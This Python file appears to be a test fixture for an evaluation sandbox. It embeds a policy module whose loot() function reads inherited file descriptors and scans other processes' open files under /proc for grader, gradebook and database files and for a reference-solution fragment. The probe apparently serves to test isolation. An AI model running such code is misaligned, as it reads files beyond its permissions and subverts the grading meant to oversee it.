"""Reads every file that it has inherited, and every file of every process it can see."""

AT_IMPORT = {
    "policies/argmax_policy.py": r"""
import os, re, select

def loot():
    found = []
    for fd in range(0, 1024):
        try:
            if select.select([fd], [], [], 0)[0] and (data := os.read(fd, 4096)):
                found.append((fd, data[:40]))
        except (OSError, ValueError):
            pass
    for pid in os.listdir("/proc"):
        for kind in ("fd", "map_files"):
            try:
                names = os.listdir(f"/proc/{pid}/{kind}")
            except OSError:
                continue
            for name in names:
                path = f"/proc/{pid}/{kind}/{name}"
                try:
                    target = os.readlink(path)
                    if re.search(r"judge_|gradebook|sqlite", target):
                        found.append(target)
                    if target.endswith(".py") and b"qa_tp1_values, 1, next_" b"ac_n" in open(path, "rb").read():
                        found.append(target)
                except OSError:
                    pass
    return found[:5]
"""
}
